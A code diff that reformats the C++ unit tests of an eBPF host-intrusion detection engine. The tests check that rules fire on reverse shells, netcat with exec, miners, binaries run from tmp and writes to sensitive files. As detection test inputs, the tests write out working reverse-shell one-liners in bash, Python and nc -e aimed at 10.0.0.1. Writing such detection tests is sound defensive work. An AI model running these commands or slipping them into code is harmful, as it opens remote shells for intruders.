@@ -4,11 +4,11 @@
 #include "ebpf/host_rules.h"
 
 #include <gtest/gtest.h>
+#include <sys/stat.h>
 
+#include <filesystem>
 #include <nlohmann/json.hpp>
 #include <set>
-#include <filesystem>
-#include <sys/stat.h>
 
 #include "ebpf/agent_event_source.h"
 #include "ebpf/host_context_resolver.h"
@@ -24,8 +24,9 @@ namespace {
 class HostRulesTest : public ::testing::Test {
  protected:
   void SetUp() override {
-    for (HostEvent e : {Exec(1, 0, "/sbin/init", {"/sbin/init"}), Exec(500, 1, "/usr/sbin/sshd", {"sshd", "-D"}),
-                        Exec(600, 500, "/usr/bin/bash", {"-bash"})})
+    for (HostEvent e :
+         {Exec(1, 0, "/sbin/init", {"/sbin/init"}), Exec(500, 1, "/usr/sbin/sshd", {"sshd", "-D"}),
+          Exec(600, 500, "/usr/bin/bash", {"-bash"})})
       table_.Apply(e);
     auto engine = HostRuleEngine::Create({});
     ASSERT_TRUE(engine.ok()) << engine.status().message();
@@ -46,8 +47,8 @@ class HostRulesTest : public ::testing::Test {
     e.stdio = {StdioKind::kCharDevice, StdioKind::kCharDevice, StdioKind::kCharDevice};
     return e;
   }
-  static HostEvent Socket(HostEventKind kind, int64_t pid, std::string local, int local_port, std::string remote,
-                          int remote_port) {
+  static HostEvent Socket(HostEventKind kind, int64_t pid, std::string local, int local_port,
+                          std::string remote, int remote_port) {
     HostEvent e;
     e.kind = kind;
     e.time_ns = 1'700'000'000'000'000'000;
@@ -118,21 +119,26 @@ TEST_F(HostRulesTest, ShellStartedByAProcessWhoseStdioIsASocketIsAReverseShell) 
 }
 
 TEST_F(HostRulesTest, ReverseShellCommandLines) {
-  EXPECT_EQ(Fire(Exec(710, 600, "/usr/bin/bash", {"bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"})),
+  EXPECT_EQ(Fire(Exec(710, 600, "/usr/bin/bash",
+                      {"bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"})),
             Ids{"HOST-REVERSE-SHELL-CMDLINE"});
-  EXPECT_EQ(Fire(Exec(711, 600, "/usr/bin/python3",
-                      {"python3", "-c",
-                       "import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",9001));"
-                       "os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])"})),
-            Ids{"HOST-REVERSE-SHELL-CMDLINE"});
-  EXPECT_EQ(Fire(Exec(712, 600, "/usr/bin/bash", {"bash", "-c", "echo /dev/tcp is a bash feature"})), Ids{});
+  EXPECT_EQ(
+      Fire(Exec(711, 600, "/usr/bin/python3",
+                {"python3", "-c",
+                 "import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",9001));"
+                 "os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])"})),
+      Ids{"HOST-REVERSE-SHELL-CMDLINE"});
+  EXPECT_EQ(
+      Fire(Exec(712, 600, "/usr/bin/bash", {"bash", "-c", "echo /dev/tcp is a bash feature"})),
+      Ids{});
 }
 
 TEST_F(HostRulesTest, NetcatIsANetworkToolAndNetcatWithExecIsAReverseShell) {
   HostEvent nc = Exec(720, 600, "/usr/bin/nc.openbsd", {"nc", "-zv", "10.0.0.1", "22"});
   nc.exec_path = "/usr/bin/nc";
   EXPECT_EQ(Fire(nc), Ids{"HOST-NETWORK-TOOL"});
-  HostEvent nce = Exec(721, 600, "/usr/bin/nc.traditional", {"nc", "-e", "/bin/sh", "10.0.0.1", "4444"});
+  HostEvent nce =
+      Exec(721, 600, "/usr/bin/nc.traditional", {"nc", "-e", "/bin/sh", "10.0.0.1", "4444"});
   nce.exec_path = "/usr/bin/nc";
   EXPECT_EQ(Fire(nce), (Ids{"HOST-NETWORK-TOOL", "HOST-REVERSE-SHELL-CMDLINE"}));
   EXPECT_EQ(Fire(Exec(722, 600, "/usr/bin/ncdu", {"ncdu"})), Ids{});
@@ -140,7 +146,8 @@ TEST_F(HostRulesTest, NetcatIsANetworkToolAndNetcatWithExecIsAReverseShell) {
 
 TEST_F(HostRulesTest, ExecutionFromTmpDevShmAndMemfd) {
   EXPECT_EQ(Fire(Exec(730, 600, "/tmp/x", {"./x"})), Ids{"HOST-EXEC-FROM-TMP"});
-  EXPECT_EQ(Fire(Exec(731, 600, "/dev/shm/.k/kworker", {"[kworker/0:1]"})), Ids{"HOST-EXEC-FROM-TMP"});
+  EXPECT_EQ(Fire(Exec(731, 600, "/dev/shm/.k/kworker", {"[kworker/0:1]"})),
+            Ids{"HOST-EXEC-FROM-TMP"});
   HostEvent script = Exec(732, 600, "/usr/bin/dash", {"sh", "/var/tmp/run.sh"});
   script.exec_path = "/var/tmp/run.sh";  // a script: the interpreter is the exe
   EXPECT_EQ(Fire(script), Ids{"HOST-EXEC-FROM-TMP"});
@@ -158,7 +165,8 @@ TEST_F(HostRulesTest, ListenerOutsideTheAllowedPortsFires) {
   EXPECT_EQ(Fire(Socket(HostEventKind::kListen, 600, "0.0.0.0", 31337, "", 0)),
             Ids{"HOST-LISTEN-UNEXPECTED-PORT"});
   EXPECT_EQ(Fire(Socket(HostEventKind::kListen, 600, "0.0.0.0", 443, "", 0)), Ids{});
-  EXPECT_EQ(Fire(Socket(HostEventKind::kListen, 600, "127.0.0.1", 31337, "", 0)), Ids{});  // loopback only
+  EXPECT_EQ(Fire(Socket(HostEventKind::kListen, 600, "127.0.0.1", 31337, "", 0)),
+            Ids{});  // loopback only
   HostEvent failed = Socket(HostEventKind::kListen, 600, "0.0.0.0", 31337, "", 0);
   failed.result = -98;
   EXPECT_EQ(Fire(failed), Ids{});
@@ -177,7 +185,8 @@ TEST_F(HostRulesTest, ARuleFileReplacesTheBuiltinRuleWithTheSameId) {
   auto engine = HostRuleEngine::Create({path});
   ASSERT_TRUE(engine.ok()) << engine.status().message();
   EXPECT_EQ((*engine)->rule_count(), engine_->rule_count());
-  EXPECT_EQ(Fire(Socket(HostEventKind::kListen, 600, "0.0.0.0", 31337, "", 0), engine->get()), Ids{});
+  EXPECT_EQ(Fire(Socket(HostEventKind::kListen, 600, "0.0.0.0", 31337, "", 0), engine->get()),
+            Ids{});
   EXPECT_EQ(Fire(Socket(HostEventKind::kListen, 600, "0.0.0.0", 443, "", 0), engine->get()),
             Ids{"HOST-LISTEN-UNEXPECTED-PORT"});
   EXPECT_EQ(last_[0].risk_level, RiskLevel::kHigh);
@@ -186,22 +195,26 @@ TEST_F(HostRulesTest, ARuleFileReplacesTheBuiltinRuleWithTheSameId) {
 TEST_F(HostRulesTest, TheAgentsOpenPortsSettingsDriveTheListenerRule) {
   OpenPortsSettings ports;
   ports.allowed_tcp = {PortRange{22, 22}, PortRange{8000, 8100}};
-  auto engine = HostRuleEngine::Create({}, true, ListenRuleForAllowedPorts(ports, RiskLevel::kHigh));
+  auto engine =
+      HostRuleEngine::Create({}, true, ListenRuleForAllowedPorts(ports, RiskLevel::kHigh));
   ASSERT_TRUE(engine.ok()) << engine.status().message();
   EXPECT_EQ((*engine)->rule_count(), engine_->rule_count()) << "replaces the built-in rule";
   EXPECT_EQ(Fire(Socket(HostEventKind::kListen, 600, "0.0.0.0", 22, "", 0), engine->get()), Ids{});
-  EXPECT_EQ(Fire(Socket(HostEventKind::kListen, 600, "0.0.0.0", 8050, "", 0), engine->get()), Ids{});
+  EXPECT_EQ(Fire(Socket(HostEventKind::kListen, 600, "0.0.0.0", 8050, "", 0), engine->get()),
+            Ids{});
   EXPECT_EQ(Fire(Socket(HostEventKind::kListen, 600, "0.0.0.0", 8101, "", 0), engine->get()),
             Ids{"HOST-LISTEN-UNEXPECTED-PORT"});
   EXPECT_EQ(last_[0].risk_level, RiskLevel::kHigh);
   EXPECT_EQ(Fire(Socket(HostEventKind::kListen, 600, "0.0.0.0", 443, "", 0), engine->get()),
             Ids{"HOST-LISTEN-UNEXPECTED-PORT"})
       << "443 is allowed by the catalog's default list, not by these settings";
-  EXPECT_EQ(Fire(Socket(HostEventKind::kListen, 600, "127.0.0.1", 9999, "", 0), engine->get()), Ids{});
+  EXPECT_EQ(Fire(Socket(HostEventKind::kListen, 600, "127.0.0.1", 9999, "", 0), engine->get()),
+            Ids{});
 
   ports.report_loopback = true;
   ports.allowed_tcp.clear();
-  auto strict = HostRuleEngine::Create({}, true, ListenRuleForAllowedPorts(ports, RiskLevel::kMedium));
+  auto strict =
+      HostRuleEngine::Create({}, true, ListenRuleForAllowedPorts(ports, RiskLevel::kMedium));
   ASSERT_TRUE(strict.ok()) << strict.status().message();
   EXPECT_EQ(Fire(Socket(HostEventKind::kListen, 600, "127.0.0.1", 22, "", 0), strict->get()),
             Ids{"HOST-LISTEN-UNEXPECTED-PORT"});
@@ -210,10 +223,12 @@ TEST_F(HostRulesTest, TheAgentsOpenPortsSettingsDriveTheListenerRule) {
 TEST_F(HostRulesTest, CryptoMiners) {
   EXPECT_EQ(Fire(Socket(HostEventKind::kConnect, 600, "10.0.0.5", 40000, "198.51.100.7", 3333)),
             Ids{"HOST-MINER-POOL-CONNECTION"});
-  EXPECT_EQ(Fire(Socket(HostEventKind::kConnect, 600, "10.0.0.5", 40000, "198.51.100.7", 443)), Ids{});
+  EXPECT_EQ(Fire(Socket(HostEventKind::kConnect, 600, "10.0.0.5", 40000, "198.51.100.7", 443)),
+            Ids{});
   EXPECT_EQ(Fire(Exec(740, 600, "/opt/x/XMRig", {"XMRig"})), Ids{"HOST-CRYPTO-MINER"});
-  EXPECT_EQ(Fire(Exec(741, 600, "/usr/bin/java", {"java", "-o", "stratum+tcp://pool.example:4444"})),
-            Ids{"HOST-CRYPTO-MINER"});
+  EXPECT_EQ(
+      Fire(Exec(741, 600, "/usr/bin/java", {"java", "-o", "stratum+tcp://pool.example:4444"})),
+      Ids{"HOST-CRYPTO-MINER"});
 }
 
 TEST_F(HostRulesTest, SetuidToRootByANonRootProcess) {
@@ -248,7 +263,8 @@ TEST_F(HostRulesTest, SensitiveFiles) {
   EXPECT_EQ(Fire(Open(760, "/etc/sudoers.d/90-x", 01 | 0100)), Ids{"HOST-SUDOERS-ACCESS"});
   EXPECT_EQ(Fire(Open(760, "/etc/ld.so.preload", 01)), Ids{"HOST-LD-PRELOAD-WRITE"});
   EXPECT_EQ(Fire(Open(760, "/etc/ld.so.preload", 0)), Ids{});
-  EXPECT_EQ(Fire(Open(760, "/root/.ssh/authorized_keys", 02 | 02000)), Ids{"HOST-ROOT-SSH-KEYS-WRITE"});
+  EXPECT_EQ(Fire(Open(760, "/root/.ssh/authorized_keys", 02 | 02000)),
+            Ids{"HOST-ROOT-SSH-KEYS-WRITE"});
 }
 
 TEST_F(HostRulesTest, KernelModuleLoads) {
@@ -269,15 +285,18 @@ TEST_F(HostRulesTest, ForksAndExitsVisitNoRule) {
 }
 
 TEST(HostRuleLoadTest, UnknownFieldsAndEventsAreErrorsWithSuggestions) {
-  auto bad_field = HostRuleEngine::FromText("- id: X\n  title: x\n  risk_level: low\n  match:\n    event: exec\n    proces.name: nc\n");
+  auto bad_field = HostRuleEngine::FromText(
+      "- id: X\n  title: x\n  risk_level: low\n  match:\n    event: exec\n    proces.name: nc\n");
   ASSERT_FALSE(bad_field.ok());
   EXPECT_NE(bad_field.status().message().find("did you mean 'process.name'"), std::string::npos)
       << bad_field.status().message();
-  auto bad_event = HostRuleEngine::FromText("- id: X\n  title: x\n  risk_level: low\n  match:\n    event: exeve\n");
+  auto bad_event = HostRuleEngine::FromText(
+      "- id: X\n  title: x\n  risk_level: low\n  match:\n    event: exeve\n");
   ASSERT_FALSE(bad_event.ok());
   EXPECT_NE(bad_event.status().message().find("unknown event 'exeve'"), std::string::npos);
   auto threshold = HostRuleEngine::FromText(
-      "- id: X\n  title: x\n  risk_level: low\n  match: {event: exec}\n  threshold: {count: 3, window: 1m}\n");
+      "- id: X\n  title: x\n  risk_level: low\n  match: {event: exec}\n  threshold: {count: 3, "
+      "window: 1m}\n");
   ASSERT_FALSE(threshold.ok());
   EXPECT_NE(threshold.status().message().find("threshold"), std::string::npos);
 }
@@ -357,7 +376,9 @@ TEST(HostEventFieldsTest, JsonAndDirectExtractionAgreeOnEveryField) {
     table.Apply(e);
     EventView view = MakeEventView(e, table, "host-a", 1000, 1000);
     view.user = "root";
-    view.cgroup = "/system.slice/docker-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.scope";
+    view.cgroup =
+        "/system.slice/"
+        "docker-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.scope";
     view.container_id = HostContextResolver::ContainerIdOf(view.cgroup);
     std::string json;
     RenderHostEventJson(view, &json);
@@ -368,8 +389,14 @@ TEST(HostEventFieldsTest, JsonAndDirectExtractionAgreeOnEveryField) {
     ASSERT_TRUE(from_json.Extract(padded.data(), json.size(), padded.size(), &b).ok()) << json;
     for (FieldId id = 0; id < registry.size(); ++id) {
       std::vector<std::string> va, vb;
-      a.AnyValue(id, [&](const FieldValue& v) { va.emplace_back(v.text); return false; });
-      b.AnyValue(id, [&](const FieldValue& v) { vb.emplace_back(v.text); return false; });
+      a.AnyValue(id, [&](const FieldValue& v) {
+        va.emplace_back(v.text);
+        return false;
+      });
+      b.AnyValue(id, [&](const FieldValue& v) {
+        vb.emplace_back(v.text);
+        return false;
+      });
       EXPECT_EQ(va, vb) << HostEventKindName(e.kind) << " " << registry.path(id) << "\n" << json;
       EXPECT_EQ(a.count(id), b.count(id)) << registry.path(id);
     }
